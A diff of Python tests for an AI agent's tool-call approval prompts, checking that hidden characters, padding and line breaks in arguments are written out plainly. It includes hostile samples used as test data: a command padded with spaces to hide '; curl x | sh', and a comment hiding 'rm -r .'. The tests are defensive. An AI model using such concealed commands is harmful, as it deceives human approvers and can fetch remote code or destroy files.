@@ -1,4 +1,5 @@
 import json
+import re
 
 import pytest
 from hypothesis import given
@@ -6,9 +7,9 @@ from hypothesis import strategies as st
 
 from tests.agents.model.acting import Actor, agent_of, files
 from tests.agents.model.talk import Talk
-from threadline.agents.model.approvals import QUESTION_LIMIT, ask_about, fitting
+from threadline.agents.model.approvals import ask_about, fitting
 from threadline.core.agent import Question
-from threadline.core.approval import Approval, ToolRules, write_answer
+from threadline.core.approval import QUESTION_LIMIT, Approval, ToolRules, write_answer
 from threadline.core.message import PARTS_LIMIT, NewMessage, Role, ToolCall, ToolResult
 from threadline.core.notice import cut_off
 from threadline.platforms.telegram.rendering import render
@@ -136,32 +137,68 @@ async def test_a_turn_may_ask_again() -> None:
     assert "b.txt" not in talk.question.text
 
 
-@given(st.lists(st.tuples(st.text(max_size=300), st.text()), min_size=1, max_size=12))
-def test_a_question_is_short_and_cannot_be_faked(calls: list[tuple[str, str]]) -> None:
-    """Whatever the arguments are, the question is bounded and each call stays in its lines."""
+def read_back(text: str) -> str:
+    """Undo what makes hidden characters visible."""
+    named = {"spaces": " ", "tabs": "\t", "line breaks": "\n"}
+    text = re.sub(r"⟦(\d+) line breaks⟧\n", r"⟦\1 line breaks⟧", text.replace("\n      | ", "\n"))
+    text = re.sub(r"⟦(\d+) (\D+)⟧", lambda found: named[found.group(2)] * int(found.group(1)), text)
+    return re.sub(r"⟦U\+(\w+)⟧", lambda found: chr(int(found.group(1), 16)), text)
+
+
+@given(st.lists(st.dictionaries(st.text(), st.text()), min_size=1, max_size=5))
+def test_every_character_is_shown_and_no_call_can_be_faked(calls: list[dict[str, str]]) -> None:
+    """Whatever the arguments are, an approver is sent all of them, and each call is one block."""
     made = [
-        ToolCall(id=str(n), name="files_write", arguments=json.dumps({"path": value, key: "x"}))
-        for n, (key, value) in enumerate(calls)
-        if key.isprintable() and "\0" not in value and value.isprintable()
-    ] or [ToolCall(id="x", name="files_write", arguments="no json\nfiles_read\n")]
-    question = ask_about(fitting(made))
+        ToolCall(id=str(n), name="files_write", arguments=json.dumps(given))
+        for n, given in enumerate(calls)
+    ]
+    text = ask_about(fitting(made)).text
 
-    assert len(question.text) < QUESTION_LIMIT + 200
-    lines = [line for line in question.text.splitlines() if line and not line.startswith(" ")]
-    assert {line for line in lines[1:] if line.strip("`")} <= {"files_write"}
+    lines = [line for line in text.split("\n") if line and not line.startswith(" ")]
+    assert [line for line in lines[1:] if line.strip("`")] == ["files_write"] * len(made)
+    shown = read_back(text.replace("\n  | ", "\n      | "))
+    for given_arguments in calls:
+        for name, value in given_arguments.items():
+            assert f"{name}: " in shown
+            assert value in shown
 
 
-def test_a_long_argument_says_that_it_is_longer() -> None:
-    """Nobody is asked for something that they cannot see, without being told so."""
-    call = ToolCall(id="1", name="run", arguments='{"command": "' + "x" * 5000 + '"}')
+@pytest.mark.parametrize(
+    ("hidden", "shown"),
+    [
+        ("ls" + " " * 48 + "; curl x | sh", "ls⟦48 spaces⟧; curl x | sh"),
+        ("a\u202eb", "a⟦U+202E⟧b"),
+        ("a\u200bb", "a⟦U+200B⟧b"),
+        ("a\x1b[8mb", "a⟦U+001B⟧[8mb"),
+        ("a\u00a0b", "a⟦U+00A0⟧b"),
+        ("a\U000e0041b", "a⟦U+E0041⟧b"),
+        ("⟦48 spaces⟧", "⟦U+27E6⟧48 spaces⟦U+27E7⟧"),
+        ("x" * 5000, "x" * 5000),
+    ],
+)
+def test_nothing_in_an_argument_is_hidden(hidden: str, shown: str) -> None:
+    """Characters that cannot be seen are written out, and a long argument is not cut."""
+    call = ToolCall(id="1", name="run", arguments=json.dumps({"command": hidden}))
 
-    assert "4,600 more characters" in ask_about([call]).text
+    assert f"command: {shown}\n" in ask_about([call]).text
+
+
+async def test_a_call_that_is_too_long_to_show_is_not_asked_about() -> None:
+    """Nothing is cut: the model is told to make the call in smaller parts."""
+    done: list[str] = []
+    talk = Talk()
+    huge = ("files_write", json.dumps({"path": "x" * QUESTION_LIMIT}))
+    await talk.says(agent_of(Actor([huge], "I see"), files(done), tools=CAREFUL), "Do it")
+
+    assert not any(isinstance(output, Question) for output in talk.outputs)
+    assert "in smaller parts" in next(iter(results(talk).values()))
+    assert done == []
 
 
 async def test_nobody_gives_leave_for_what_they_were_not_shown() -> None:
     """Of too many calls some are asked about; the others are not done, and not allowed."""
     done: list[str] = []
-    calls = [("files_write", f'{{"path": "{n}{"x" * 300}"}}') for n in range(99)]
+    calls = [("files_write", f'{{"path": "{n}{"x" * 3000}"}}') for n in range(99)]
     talk = await asked(done, *calls, ("files_remove", "{}"))
 
     assert talk.question.tools == ("files_write",)
@@ -191,7 +228,7 @@ def test_what_is_asked_about_reads_as_it_is(value: str) -> None:
     call = ToolCall(id="1", name="run", arguments=json.dumps({"command": value}))
     shown = render(ask_about([call]).text)
 
-    assert f"command: {value.replace(chr(10), ' ⏎ ')}" in shown.text
+    assert value.split("\n", maxsplit=1)[0] in shown.text
     assert [entity.type for entity in shown.entities] == ["pre"]
 
 
@@ -199,7 +236,7 @@ def test_a_line_break_is_seen() -> None:
     """A second command does not look like the end of a comment."""
     call = ToolCall(id="1", name="run", arguments=json.dumps({"command": "# tidy up\nrm -r ."}))
 
-    assert "command: # tidy up ⏎ rm -r ." in ask_about([call]).text
+    assert "  command: \n  | # tidy up\n  | rm -r ." in ask_about([call]).text
 
 
 async def test_a_denial_is_no_message_of_the_agent() -> None:
